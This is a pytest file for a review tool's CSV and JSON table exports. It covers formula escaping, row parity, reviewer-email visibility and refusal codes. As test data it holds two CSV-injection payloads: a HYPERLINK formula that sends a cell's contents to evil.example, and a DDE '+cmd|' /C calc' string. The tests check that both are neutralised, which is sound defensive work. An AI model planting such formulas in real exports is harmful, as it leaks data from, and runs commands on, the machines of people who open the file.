"""Table exports: every table as CSV and JSON, streamed; formula-safe CSV with BOM and ISO
dates; who gets reviewer e-mails; refusals before anything streams."""

from __future__ import annotations

import json
import re

import pytest

from reviewtool.services.read.exports import EXPORTS
from reviewtool.services.reviews import declare_conflict
from tests.factories import UserFactory, grantmaker
from tests.portfolio_helpers import NN, OPTIMISTIC, closed_project, csv_rows

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def hostile_project(workflow):
    """A closed round whose project title and a review rationale are formulas."""
    return closed_project(workflow, [{**NN, "rationale": "+cmd|' /C calc'!A0"}, OPTIMISTIC,
                                     OPTIMISTIC],
                          title=HOSTILE)


def test_export_csv_escapes_a_hyperlink_formula_in_a_title(api, session, workflow):
    project = hostile_project(workflow)
    response = api(grantmaker()).get("/exports/projects.csv")
    assert response.status_code == 200 and response.is_streamed
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == \
        'attachment; filename="reviewtool-projects.csv"'
    header, rows = csv_rows(response.data)
    row = dict(zip(header, next(r for r in rows if r[0] == str(project.id)), strict=True))
    assert row["title"] == "'" + HOSTILE
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z", row["created_at"])
    assert response.data.count(b"\r\n") == len(rows) + 1  # one header row, then the rows
    body = api(grantmaker()).get("/exports/reviews.csv").data.decode()
    assert "'+cmd|' /C calc'!A0" in body


def test_export_json_keeps_text_as_written(api, session, workflow):
    project = hostile_project(workflow)
    body = json.loads(api(grantmaker()).get("/exports/projects.json").data)
    assert (body["table"], body["columns"]) == ("projects", list(EXPORTS["projects"].columns))
    item = next(i for i in body["items"] if i["id"] == project.id)
    assert (item["title"], item["project_type"], item["work_groups"]) == (
        HOSTILE, "events", ["technical"])


@pytest.mark.parametrize("table", sorted(EXPORTS))
def test_every_table_exports_as_csv_and_json_with_the_same_rows(table, api, session,
                                                                workflow):
    hostile_project(workflow)
    client = api(grantmaker())
    header, rows = csv_rows(client.get(f"/exports/{table}.csv").data)
    body = json.loads(client.get(f"/exports/{table}.json").data)
    assert header == body["columns"] == list(EXPORTS[table].columns)
    assert len(rows) == len(body["items"])


def test_reviewer_emails_only_where_the_caller_may_see_reviewers(api, session, workflow):
    owner = UserFactory(roles=("proposer", "grantmaker"))
    own = closed_project(workflow, [NN, OPTIMISTIC, OPTIMISTIC], owner=owner)
    other = closed_project(workflow, [OPTIMISTIC] * 3)
    conflicted = grantmaker()
    declare_conflict(session, conflicted, other, "other")

    def emails(user):
        body = json.loads(api(user).get("/exports/reviews.json").data)
        return {(i["project_id"], i["letter"]): i["reviewer_email"] for i in body["items"]}

    as_owner = emails(owner)
    assert {as_owner[(own.id, letter)] for letter in "ABC"} == {None}  # their own project
    assert all(as_owner[(other.id, letter)] for letter in "ABC")
    as_admin = emails(UserFactory(roles=("admin",)))
    assert all(as_admin[(pid, letter)] for pid in (own.id, other.id) for letter in "ABC")
    as_conflicted = emails(conflicted)
    assert {pid for pid, _ in as_conflicted} == {own.id}  # no reviews of the conflicted one
    rounds = json.loads(api(conflicted).get("/exports/rounds.json").data)["items"]
    assert other.id not in {r["project_id"] for r in rounds}
    projects = json.loads(api(conflicted).get("/exports/projects.json").data)["items"]
    assert other.id in {p["id"] for p in projects}  # the project itself they may see


def test_export_refusals_come_before_any_byte(api, login):
    assert api(UserFactory()).get("/exports/reviews.csv").status_code == 403
    assert api(grantmaker()).get("/exports/memos.csv").status_code == 404
    assert api(grantmaker()).get("/exports/reviews.xml").status_code == 404
    page = login(grantmaker()).get("/exports/decisions.json")
    assert (page.status_code, page.headers["Content-Type"]) == (200, "application/json")
    assert json.loads(page.data) == {"table": "decisions", "columns": list(
        EXPORTS["decisions"].columns), "items": []}
